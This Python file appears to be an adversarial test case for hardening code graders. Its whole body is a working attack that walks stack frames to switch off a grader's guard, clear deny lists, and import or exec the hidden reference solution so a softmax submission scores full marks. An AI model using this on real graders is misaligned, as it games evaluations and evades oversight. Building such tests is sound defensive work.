"""Attack ``disarm_guard`` (exercise ``softmax``): switch the learner process's guard off from inside.

What it attacks: a guard whose on/off state, or whose unguarded tools, live in
Python objects that the learner's code can reach.  From inside each call the module
climbs the stack WITHOUT ``sys`` (an exception's ``__traceback__.tb_frame``, then
``f_back``: reading ``f_back`` raises no audit event) and, in every frame's
``f_locals`` and ``f_globals`` and in the attributes of the objects found there:

1. flips every boolean attribute that is ``True`` and named like a guard switch
   (``lock``, ``guard``, ``arm``, ``strict``, ``enabled``, ``active``, ``secure``,
   ``restrict``, ``sandbox``, ``protect``) to ``False``, and empties sets/lists
   named like deny lists (``refused``, ``denied``, ``blocked``, ``forbidden``);
2. collects the unguarded tools it finds: the real ``__import__`` kept aside (any
   callable attribute named like ``*import*``), the ``importlib``, ``builtins``,
   ``sys`` and ``os`` modules of the harness's globals;
3. restores ``builtins.__import__`` from the kept real one, then tries
   ``importlib.import_module("activations")``, the real ``__import__``, and failing
   those reading the package's ``softmax.py`` with ``open`` and ``exec``-ing it under
   another name.

A vulnerable grader: the guard is off for the rest of the learner process, the
package imports (its files are readable by every user), and the module takes
full marks.

Expected with a hardened grader: nothing the learner can reach turns the guard
off (the audit hook decides from state the learner cannot change, such as a
closure over an immutable value, and refuses ``object.__getattr__`` of
``tb_frame``/``gi_frame``...), the package cannot be imported or opened; the
functions fall back to zeros and the module scores no more than
``_zeros/softmax.py``.
"""

import numpy as np

_SWITCH_WORDS = ("lock", "guard", "arm", "strict", "enabled", "active", "secure", "restrict",
                 "sandbox", "protect")
_LIST_WORDS = ("refused", "denied", "blocked", "forbidden", "deny")
_FOUND = {"ref": None, "imports": [], "modules": {}}


def _frames():
    try:
        raise RuntimeError
    except RuntimeError as exc:
        frame = exc.__traceback__.tb_frame
    n = 0
    while frame is not None and n < 40:
        yield frame
        frame = frame.f_back
        n += 1


def _disarm(obj):
    try:
        attrs = vars(obj)
    except TypeError:
        return
    for name, value in list(attrs.items()):
        low = name.lower()
        try:
            if value is True and any(w in low for w in _SWITCH_WORDS):
                setattr(obj, name, False)
            elif isinstance(value, (set, list, dict)) and any(w in low for w in _LIST_WORDS):
                value.clear()
            elif callable(value) and "import" in low and not isinstance(value, type):
                _FOUND["imports"].append(value)
        except BaseException:  # noqa: BLE001
            continue


def _survey():
    for frame in _frames():
        try:
            spaces = [dict(frame.f_locals), frame.f_globals]
        except BaseException:  # noqa: BLE001
            continue
        for space in spaces:
            for key, value in list(space.items()):
                if key in ("importlib", "builtins", "sys", "os") and hasattr(value, "__name__"):
                    _FOUND["modules"].setdefault(key, value)
                if type(value).__module__ in ("builtins", "numpy") or isinstance(value, type):
                    continue
                _disarm(value)
                for inner in list(getattr(value, "__dict__", {}).values())[:50]:
                    if type(inner).__module__ not in ("builtins", "numpy"):
                        _disarm(inner)


def _import_reference():
    mods = _FOUND["modules"]
    b = mods.get("builtins")
    for real in _FOUND["imports"]:
        try:
            if b is not None and getattr(real, "__name__", "") == "__import__":
                b.__import__ = real
        except BaseException:  # noqa: BLE001
            pass
    attempts = []
    if "importlib" in mods:
        attempts.append(lambda: mods["importlib"].import_module("activ" + "ations"))
    for real in _FOUND["imports"]:
        attempts.append(lambda real=real: real("activ" + "ations"))
    attempts.append(_by_open)
    for attempt in attempts:
        try:
            module = attempt()
            if callable(getattr(module, "softmax", None)):
                return module
        except BaseException:  # noqa: BLE001
            continue
    return None


def _by_open():
    """Read the package's softmax.py next to a sys.path entry and exec it as a new package."""
    sys_mod, os_mod = _FOUND["modules"].get("sys"), _FOUND["modules"].get("os")
    if sys_mod is None or os_mod is None:
        return None
    import types

    for entry in list(sys_mod.path):
        folder = os_mod.path.join(entry or ".", "activ" + "ations")
        path = os_mod.path.join(folder, "softmax.py")
        if not os_mod.path.isfile(path):
            continue
        with open(path, encoding="utf-8") as f:
            source = f.read()
        parent = types.ModuleType("_disarmed_pkg")
        parent.__path__ = [folder]
        sys_mod.modules["_disarmed_pkg"] = parent
        module = types.ModuleType("_disarmed_pkg.softmax")
        module.__package__ = "_disarmed_pkg"
        exec(compile(source, path, "exec"), module.__dict__)
        return module
    return None


def _reference():
    if _FOUND["ref"] is None:
        try:
            _survey()
            _FOUND["ref"] = _import_reference()
        except BaseException:  # noqa: BLE001
            pass
    return _FOUND["ref"]


def softmax(x, axis=-1, temperature=1.0):
    ref = _reference()
    if ref is not None:
        try:
            return ref.softmax(x, axis=axis, temperature=temperature)
        except BaseException:  # noqa: BLE001
            pass
    return np.zeros_like(x)


def logsumexp(x, axis=-1, keepdims=False):
    ref = _reference()
    if ref is not None:
        try:
            return ref.logsumexp(x, axis=axis, keepdims=keepdims)
        except BaseException:  # noqa: BLE001
            pass
    return np.zeros_like(np.sum(x, axis=axis, keepdims=keepdims))
